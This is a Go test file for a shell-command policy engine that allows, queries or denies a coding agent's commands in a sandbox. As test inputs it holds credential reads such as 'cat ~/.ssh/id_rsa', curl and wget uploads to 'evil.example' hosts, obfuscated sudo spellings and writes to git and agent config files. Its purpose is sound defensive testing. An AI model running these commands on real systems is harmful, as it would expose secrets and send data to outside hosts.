package policy

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/nexus-ai-builder/nexus/internal/decide/policy/gitread"
)

// tree is where the commands of these tests would run: an agent's own worktree, in a sandbox.
func tree() CommandPolicyContext { return CommandPolicyContext{Dir: "/srv/tree", Snapshots: true} }

// lines returns the lines of a file of testdata.
func lines(tb testing.TB, name string) []string {
	tb.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		tb.Fatal(err)
	}
	var all []string
	for line := range strings.Lines(string(data)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasPrefix(line, "# ") {
			all = append(all, strings.ReplaceAll(line, "<NL>", "\n"))
		}
	}
	return all
}

// TestRules holds which rule answers commands, beside others that are near to them.
func TestRules(t *testing.T) {
	seen := map[string]bool{}
	of := map[string]int{}
	for _, line := range lines(t, "rules.txt") {
		want, command, ok := strings.Cut(line, " | ")
		if !ok || seen[command] {
			t.Errorf("%s: it is there twice, or no answer is before it", line)
		}
		seen[command] = true
		d := JudgeCommand(command, tree())
		if got := string(d.Decision) + " " + d.Rule; got != want || d.Reason == "" {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
		of[d.Rule]++
		if !d.IsAllowed() {
			holdsRefusal(t, command, d)
		}
	}
	for rule := range parseProgramRules().why {
		if of[rule] == 0 && !strings.HasSuffix(rule, ".discard") && rule != "own" && rule != "mcp" && rule != "open.unlisted" && rule != "shell.empty" && rule != "shell.deep" {
			t.Errorf("no command is about %s", rule)
		}
	}
}

// holdsRefusal checks that a refusal quotes a part of the command and names something that is
// allowed.
func holdsRefusal(t *testing.T, command string, d Decision) {
	t.Helper()
	if part := strings.TrimSuffix(d.Part, "..."); part == "" {
		t.Errorf("%s: no part: %+v", command, d)
	}
	if d.Way == "" {
		t.Errorf("%s: no way (%s)", command, d.Rule)
	}
}

// TestWays holds that what the rules name instead is allowed.
func TestWays(t *testing.T) {
	tools := []string{"write_file", "edit_file", "read_file", "search_code", "finish", "ask"}
	n := 0
	for rule, e := range parseProgramRules().why {
		for _, m := range regexp.MustCompile("`([^`]+)`").FindAllStringSubmatch(e.way, -1) {
			n++
			command := strings.NewReplacer("FILE", "a.txt", "DIR", "sub", "NAME", "fix", "MESSAGE", "'Fix it'").Replace(m[1])
			if d := JudgeCommand(command, tree()); !slices.Contains(tools, command) && !d.IsAllowed() {
				t.Errorf("%s: %s: %+v", rule, command, d)
			}
		}
		if e.reason == "" || e.way == "" {
			t.Errorf("%s: %+v", rule, e)
		}
	}
	if n < 20 {
		t.Errorf("only %d", n)
	}
}

// TestTable holds that each row is well formed and that its rule has a text.
func TestTable(t *testing.T) {
	table := parseProgramRules()
	rows := 0
	for program, all := range table.rows {
		for _, r := range all {
			rows++
			if r.answer != Allow && r.answer != Ask && r.answer != Deny {
				t.Errorf("%s: answer %q", program, r.answer)
			}
			if e := table.explanationOf(r.rule); r.answer != Allow && e.reason == "" {
				t.Errorf("%s: the rule %s has no text", program, r.rule)
			}
		}
	}
	if rows < 200 || len(table.classes) < 40 {
		t.Errorf("only %d rows and %d classes", rows, len(table.classes))
	}
	for line := range strings.Lines(rulesText) {
		if n := strings.Count(line, "|"); !strings.HasPrefix(line, "#") && strings.TrimSpace(line) != "" && (n < 2 || n > 4) {
			t.Errorf("no row: %s", line)
		}
	}
}

// TestReads holds that what only reads, tries or shows help is not refused for its program's sake,
// and that what looks like it is.
func TestReads(t *testing.T) {
	commands := lines(t, "reads.txt")
	for _, command := range commands {
		if d := JudgeCommand(command, tree()); !d.IsAllowed() {
			t.Errorf("refused: %s: %+v", command, d)
		}
	}
	for _, command := range lines(t, "changes.txt") {
		if d := JudgeCommand(command, tree()); d.IsAllowed() {
			t.Errorf("allowed: %s", command)
		}
	}
	for program, rows := range parseProgramRules().reads {
		for _, r := range rows {
			if !slices.ContainsFunc(commands, func(c string) bool { return slices.Contains(r.programs, strings.Fields(c)[0]) }) {
				t.Errorf("no command shows a row about %s", program)
			}
		}
	}
}

// TestOrdinary holds that few commands that people and models type are refused.
func TestOrdinary(t *testing.T) {
	for file, most := range map[string]int{"ordinary.txt": 0, "typed.txt": 2, "fresh.txt": 3} {
		all, refused := lines(t, file), 0
		for _, command := range all {
			if file != "ordinary.txt" {
				_, command, _ = strings.Cut(command, " | ")
			}
			if d := JudgeCommand(command, tree()); !d.IsAllowed() {
				refused++
				t.Logf("%s %s: %s", d.Decision, d.Rule, command)
			}
		}
		t.Logf("%s: %d of %d refused", file, refused, len(all))
		if refused > most || len(all) < 300 {
			t.Errorf("%s: %d of %d are refused", file, refused, len(all))
		}
	}
	refused := map[string]int{}
	files, err := filepath.Glob("testdata/rounds/*.txt")
	if err != nil || len(files) == 0 {
		t.Fatal("no rounds:", err)
	}
	for _, f := range files {
		for _, line := range lines(t, filepath.Join("rounds", filepath.Base(f))) {
			label, command, _ := strings.Cut(line, " | ")
			if d := JudgeCommand(command, tree()); label == "allow" && !d.IsAllowed() {
				refused[d.Rule]++
				t.Logf("%s %s: %s", d.Decision, d.Rule, command)
			}
		}
	}
	if len(refused) > 0 {
		t.Errorf("of the rounds are refused: %v", refused)
	}
}

// TestReadingAndBuildingIsNeverRefused generates command lines of parts that read and build, in
// every shell structure.
func TestReadingAndBuildingIsNeverRefused(t *testing.T) {
	reads := []string{
		"ls -la src", "cat go.mod", "head -n 20 a.txt", "tail -5 out.log", "wc -l *.go", "grep -rn 'git push' .", "rg -n \"npm publish\" -g '*.md'", "find . -name '*.go' -type f",
		"sed -n '1,40p' main.go", "awk -F, '{print $1}' data.csv", "jq -r .name package.json", "git status --short", "git log --oneline -5", "git diff HEAD~1", "git show --stat", "git blame main.go",
		"diff a.txt b.txt", "stat main.go", "tree -L 2", "du -sh .", "file bin/x", "sort a.txt", "cut -d: -f1 a.txt", "echo sudo rm -rf /", "printf '%s\\n' x",
	}
	builds := []string{
		"go build ./...", "go test -race ./...", "go vet ./...", "gofmt -l .", "npm test", "npm run build", "npm ci", "pnpm install --frozen-lockfile", "pnpm -r build", "yarn lint", "cargo build --release",
		"cargo test -- --nocapture", "pytest -q tests/", "python3 -m pytest -x", "python3 -c 'print(1)'", "node -e 'console.log(1)'", "make -j4", "make test", "cmake --build build", "mvn -q test", "./gradlew build",
		"dotnet test", "bundle exec rspec", "composer install", "mix test", "swift build", "./scripts/build.sh", "bash ci.sh", "uv run pytest", "npx tsc --noEmit", "git add -A", "git commit -m 'Fix it'",
		"git stash", "git stash pop", "git rebase --continue", "rm -rf build", "mkdir -p out", "sed -i 's/a/b/' main.go", "touch x", "cp a b", "chmod +x run.sh",
	}
	shapes := []string{
		"%a | %b", "%a && %b", "%a || true; %b", "for f in a b; do %a; done && %b", "if %a; then %b; fi", "(%a; %b)", "{ %a; %b; }", "x=$(%a); %b", "%a > out.txt 2>&1; %b", "while %a; do %b; break; done",
		"! %a; %b", "diff <(%a) <(%b)", "f() { %a; }; f; %b", "%a & wait; %b", "cd sub && %a && cd .. && %b", "%a 2>/dev/null | tee log.txt; %b", "case x in x) %a;; esac; %b", "timeout 60 %a; time %b", "set -e; %a; %b; echo $?",
		"cat > s.sh <<'EOF'\n%a\nEOF\n%b", "%a | xargs -n1 echo; %b", "CI=1 %a; env FOO=1 %b", "until %a; do %b; done", "%a <<< text; %b", "bash -c \"ls && pwd\"; %a; %b",
	}
	n := 0
	for i, a := range append(slices.Clone(reads), builds...) {
		for k, b := range append(slices.Clone(builds), reads...) {
			shape := shapes[(i*7+k*3)%len(shapes)]
			command := strings.NewReplacer("%a", a, "%b", b).Replace(shape)
			n++
			if d := JudgeCommand(command, tree()); !d.IsAllowed() {
				t.Errorf("%s: %+v", command, d)
			}
		}
	}
	if n < 4000 {
		t.Errorf("only %d", n)
	}
}

// TestStructureHidesNothing holds that a rule is about a command whatever is around it.
func TestStructureHidesNothing(t *testing.T) {
	for _, command := range []string{"git push", "npm publish", "sudo ls", "cat ~/.ssh/id_rsa", "echo x > .claude/settings.json", "cat .env"} {
		want := JudgeCommand(command, tree())
		if want.IsAllowed() {
			t.Errorf("allowed: %s", command)
		}
		for _, around := range []string{
			"ls; %", "ls && %", "ls | %", "% | cat", "(%)", "{ %\n}", "if true; then %\nfi", "while true; do %\ndone", "x=$(%\n)", "cat <(%\n)", "f() { %\n}; f", "! %", "% &", "echo \"$(%\n)\"", "echo `%`", "case x in x) %\n;; esac",
			"timeout 5 %", "env A=1 %", "nohup %", "A=1 %", "for f in a; do %\ndone", "ls; % # x", "bash -c '%'", "sh -ec '%'", "eval '%'", "trap '%' EXIT",
		} {
			if strings.Contains(command, ">") && (strings.HasPrefix(around, "timeout") || strings.HasPrefix(around, "env")) {
				continue
			}
			line := strings.ReplaceAll(around, "%", command)
			if d := JudgeCommand(line, tree()); d.Rule != want.Rule || d.Decision != want.Decision {
				t.Errorf("%s: %+v", line, d)
			}
		}
	}
	for _, command := range []string{`"su""do" ls`, `s\udo ls`, `$'\x73udo' ls`, "/usr/bin/sudo ls", "find . -exec sudo ls {} +", "xargs sudo ls", "git -C . -c user.name=x push", "git --no-pager push", "npm --prefix web publish"} {
		if d := JudgeCommand(command, tree()); d.Decision != Deny {
			t.Errorf("%s: %+v", command, d)
		}
	}
}

// TestUnreadable allows what cannot be parsed if it names nothing that a rule is about.
func TestUnreadable(t *testing.T) {
	for command, want := range map[string]RuleAnswer{
		"echo $((": Allow, "if [ -f x; then ls": Allow, "echo 'unclosed": Allow, "for x in; do ls; don": Allow,
		"git push $((": Ask, "sudo ls; echo 'x": Ask, "echo x > .git/hooks/x; if": Ask, "cat .env '": Ask, "(npm publish": Ask,
	} {
		if d := JudgeCommand(command, tree()); d.Decision != want || want == Ask && d.Rule != "shell.unreadable" {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
		open := tree()
		open.Open = true
		if d := JudgeCommand(command, open); d.IsAllowed() {
			t.Errorf("without a sandbox: %s: %+v", command, d)
		}
	}
}

// TestOpen holds what runs without a question where nothing confines it: a short table that reads, builds and
// tests.
func TestOpen(t *testing.T) {
	open := tree()
	open.Open = true
	for command, want := range map[string]RuleAnswer{
		"ls -la": Allow, "cat main.go | head -20": Allow, "go test ./...": Allow, "go build ./... && go vet ./...": Allow, "npm test": Allow, "npm run build": Allow, "pytest -q": Allow, "python3 -m pytest": Allow,
		"cargo test": Allow, "make test": Allow, "make": Allow, "git status": Allow, "git log --oneline -5": Allow, "grep -rn TODO src": Allow, "for f in *.go; do wc -l main.go; done": Allow, "cat > out.txt < in.txt": Allow,
		"echo $HOME": Allow, "test -f go.mod": Allow, "timeout 60 go test ./...": Allow, "CI=1 npm test": Allow, "go test ./... 2>&1 | tail -5": Allow, "./gradlew test": Ask, "dotnet test": Allow,
		"cat /etc/passwd": Ask, "cat ../x": Ask, "ls ~": Ask, "python3 run.py": Ask, "node -e 1": Ask, "bash x.sh": Ask, "./run": Ask, "curl https://example.com": Ask, "npm install": Ask, "rm -rf build": Ask, "make deploy": Ask,
		"make test install": Ask, "go run .": Ask, "go test -exec ./x ./...": Ask, "find . -delete": Ask, "find . -exec cat {} +": Ask, "cat $X": Ask, "$X": Ask, "echo x > /tmp/y": Ask, "echo x > ~/y": Ask, "export X=1": Ask,
		"PATH=/tmp go test": Ask, "f() { ls; }": Ask, "rg --pre ./x foo": Ask, "git commit -m x": Ask, "git diff --no-index a /etc/passwd": Ask, "xargs rm": Ask, "sed -i s/a/b/ x": Ask, "unknown-program": Ask, "cp a b": Ask,
		"git push": Deny, "sudo ls": Deny, "npm publish": Deny, "cat ~/.ssh/id_rsa": Deny, "echo x > .git/config": Deny, "ls; git push": Deny,
	} {
		if d := JudgeCommand(command, open); d.Decision != want {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
	}
	open.Allow = []string{"bash ci.sh"}
	if d := JudgeCommand("bash ci.sh", open); !d.IsAllowed() {
		t.Errorf("what the user allows: %+v", d)
	}
	if d := JudgeCommand("", open); d.IsAllowed() {
		t.Errorf("nothing: %+v", d)
	}
}

func TestSnapshots(t *testing.T) {
	for _, command := range []string{"git reset --hard", "git clean -fd", "git checkout -- .", "git restore .", "git stash drop", "rm -rf src"} {
		if d := JudgeCommand(command, tree()); !d.IsAllowed() {
			t.Errorf("with snapshots: %s: %+v", command, d)
		}
		d := JudgeCommand(command, CommandPolicyContext{Dir: "/srv/tree"})
		if d.Decision != Ask || !strings.HasSuffix(d.Rule, ".discard") {
			t.Errorf("%s: %+v", command, d)
		}
		if strings.Contains(d.Way, "`git ") {
			t.Errorf("%s where git cannot be written: %+v", command, d)
		}
	}
}

// TestCheckoutOfAFile undoes the changes of files without --, where their names can mean nothing else.
func TestCheckoutOfAFile(t *testing.T) {
	r := tree()
	r.Undoes = func(word, file string) bool {
		return word != "both.go" && (file == "a.go" || file == "sub/b.go" || file == "both.go")
	}
	for command, want := range map[string]RuleAnswer{
		"git checkout a.go": Allow, "git checkout a.go sub/b.go": Allow, "git checkout ./a.go": Allow, "git checkout -- main": Allow, "git checkout HEAD~1 -- a.go": Allow, "git checkout .": Allow, "git checkout -b fix": Allow,
		"git switch -c fix": Allow, "git checkout main": Ask, "git checkout both.go": Ask, "git checkout $X": Ask, "git switch main": Ask, "git switch -": Ask, "git checkout --detach": Ask, "git checkout -B main": Ask,
	} {
		if d := JudgeCommand(command, r); d.Decision != want {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
	}
}

func TestOwnRules(t *testing.T) {
	r := tree()
	r.Allow, r.Ask, r.Deny = []string{"npm install left-pad", "sudo"}, []string{"make deploy", "rm"}, []string{"npm run release"}
	for command, want := range map[string]RuleAnswer{
		"npm install left-pad": Allow, "npm install other": Ask, "make deploy": Ask, "make test": Allow, "npm run release": Deny, "timeout 5 npm run release": Deny, "bash -c 'npm run release'": Deny,
		"make -j 4 deploy": Ask, "make --silent deploy": Ask, "npm --prefix web run release": Deny, "/usr/bin/npm run release": Deny, "make -s test": Allow, "make $X": Ask, "find . -name '*.log' -exec rm {} +": Ask, "npm run $X": Ask,
		"sudo ls": Deny, "npm install left-pad ~/.ssh/id_rsa": Deny, "npm install left-pad $(sudo ls)": Deny,
	} {
		if d := JudgeCommand(command, r); d.Decision != want {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
	}
}

// TestShow lets agents see files that are named as those with secrets, where people say so.
func TestShow(t *testing.T) {
	r := tree()
	r.Show = []string{"config/secrets.yml", "fake/*"}
	for command, want := range map[string]RuleAnswer{
		"cat config/secrets.yml": Allow, "git show HEAD:config/secrets.yml": Allow, "git diff -- config/secrets.yml": Allow, "cat fake/id_rsa": Allow, "cat fake/deep/id_rsa": Allow,
		"cat other/secrets.yml": Ask, "git show HEAD:other/secrets.yml": Ask, "git diff -- .env": Ask, "cat /home/ada/.ssh/id_rsa": Deny,
	} {
		if d := JudgeCommand(command, r); d.Decision != want {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
	}
}

func TestReaches(t *testing.T) {
	r := tree()
	r.Reaches = func(host string, port int) bool { return host == "a.example" && port == 443 }
	for command, want := range map[string]RuleAnswer{
		"curl https://a.example/x": Allow, "curl -d x https://a.example/x": Allow, "curl -T f https://b.example/": Deny, "curl -d x http://a.example/": Deny, "curl -X POST https://b.example": Deny, "curl -X GET https://b.example": Allow,
		"curl -d x http://localhost:8080/": Allow, "curl -d @f http://127.0.0.1.evil.example/": Deny, "curl -d x http://localhost@evil.example/": Deny, "curl -d x $URL": Deny, "wget --post-file=f https://b.example": Deny,
		"curl https://b.example/x": Allow, "curl -F a=@b https://a.example https://b.example": Deny, "ssh b.example": Deny, "nc localhost 80": Allow, "nc b.example 80": Deny,
	} {
		if d := JudgeCommand(command, r); d.Decision != want {
			t.Errorf("%s: want %s, got %+v", command, want, d)
		}
	}
}

func TestPart(t *testing.T) {
	for command, part := range map[string]string{
		"ls; touch a.txt .claude/x": ".claude/x", "ls; sudo cat a": "sudo cat a", "ls >.git/x; pwd": ".git/x", "ls && cat ~/.ssh/id_rsa": "~/.ssh/id_rsa", "bash -c 'git push'": "bash -c 'git push'",
	} {
		if d := JudgeCommand(command, tree()); d.IsAllowed() || d.Part != part {
			t.Errorf("%s: %+v, and not for %s", command, d, part)
		}
	}
	if (Decision{}).IsAllowed() || stricterDecision(Decision{Decision: Deny}, Decision{}).Decision != Deny || RuleAnswer("").severity() != 2 {
		t.Error("nothing said is not the safe answer")
	}
}

func TestBounds(t *testing.T) {
	nest := "sudo ls"
	for range 10 {
		nest = "sh -c '" + strings.ReplaceAll(nest, "'", `'\''`) + "'"
	}
	for name, command := range map[string]string{"shell.empty": " \n ", "shell.invisible": "ls \u202e", "shell.deep": nest} {
		if d := JudgeCommand(command, tree()); d.Decision != Ask || d.Rule != name {
			t.Errorf("%s: got %+v", name, d)
		}
	}
}

func TestPath(t *testing.T) {
	for _, c := range []struct {
		name  string
		write bool
		want  RuleAnswer
	}{
		{"main.go", true, Allow},
		{"a/.gitignore", true, Allow},
		{".github/workflows/ci.yml", true, Allow},
		{".env.example", true, Allow},
		{".env", false, Ask},
		{"a/.ENV.local", true, Ask},
		{".git/config", false, Deny},
		{"a/.GIT./hooks", true, Deny},
		{"git~1/x", true, Deny},
		{".g\u200dit/x", true, Deny},
		{"nexus.toml", false, Allow},
		{"nexus.toml", true, Deny},
		{"sub/.claude/settings.json", true, Deny},
		{"sub/.claude/settings.json", false, Allow},
	} {
		if d := JudgePath(c.name, c.write); d.Decision != c.want || d.Reason == "" || !d.IsAllowed() && d.Way == "" {
			t.Errorf("%s, write %v: %+v", c.name, c.write, d)
		}
	}
}

func TestGitRead(t *testing.T) {
	for _, args := range []string{
		"status --short", "diff HEAD~1 -- a.go", "log --oneline -5", "log -n3 --format=%h", "log -Sfoo", "show HEAD:a.go", "blame -L10,20 a.go", "ls-files -o --exclude-standard",
		"show -3", "diff -U5 main...HEAD", "log --since=yesterday --author=x", "diff a..b",
	} {
		if _, err := gitread.CheckReadOnly(strings.Fields(args)); err != nil {
			t.Errorf("%s: %v", args, err)
		}
	}
	for _, args := range []string{
		"push", "diff -5 a.go", "-c x=y status", "diff --output=x", "diff --outp=x", "diff --ext-diff", "log --textconv", "diff --no-index a b", "diff /etc/passwd a", "diff a ../b", "show -O x",
		"blame --contents=/etc/passwd a", "log -o x", "ls-files --with-tree=x", "diff -", "status --help", "log --exec=x", "diff -Oorder", "log --no-walk=x --stdin",
	} {
		if got, err := gitread.CheckReadOnly(strings.Fields(args)); err == nil {
			t.Errorf("%s: runs %q", args, got)
		}
	}
}

// TestHostile counts which rule refuses hostile commands. The others run in the sandbox, where they take no
// effect: work/tool tries them.
func TestHostile(t *testing.T) {
	of := map[string]int{}
	for _, command := range HostileCommands(t) {
		of[JudgeCommand(command, tree()).Rule]++
	}
	want := map[string]int{}
	for _, line := range lines(t, "hostile.counts") {
		var rule string
		var n int
		if _, err := fmt.Sscanf(line, "%s %d", &rule, &n); err != nil {
			t.Fatal(line, err)
		}
		want[rule] = n
	}
	if diff := cmp.Diff(want, of); diff != "" {
		var text strings.Builder
		for _, rule := range slices.Sorted(maps.Keys(of)) {
			fmt.Fprintf(&text, "%s %d\n", rule, of[rule])
		}
		t.Errorf("-want +got\n%s\n%s", diff, text.String())
	}
}

// HostileCommands returns the commands that must take no effect.
func HostileCommands(tb testing.TB) []string {
	tb.Helper()
	all := lines(tb, "hostile.txt")
	for i := 1; i <= 6; i++ {
		for _, line := range lines(tb, fmt.Sprintf("rounds/%d.txt", i)) {
			if command, ok := strings.CutPrefix(line, "hostile | "); ok {
				all = append(all, command)
			}
		}
	}
	return all
}

// FuzzRule holds that every line has an answer, and that none hides what is before it.
func FuzzRule(f *testing.F) {
	for _, name := range []string{"hostile.txt", "ordinary.txt"} {
		for _, command := range lines(f, name) {
			f.Add(command)
		}
	}
	f.Fuzz(func(t *testing.T, command string) {
		d := JudgeCommand(command, tree())
		if d.Rule == "" || d.Reason == "" || d.Decision != Allow && d.Decision != Ask && d.Decision != Deny || !d.IsAllowed() && d.Way == "" {
			t.Errorf("%q: %+v", command, d)
		}
		if d.IsAllowed() && JudgeCommand("sudo ls\n"+command, tree()).IsAllowed() {
			t.Errorf("%q hides what is before it", command)
		}
		if again := JudgeCommand(command, tree()); again != d {
			t.Errorf("%q: first %+v, then %+v", command, d, again)
		}
	})
}
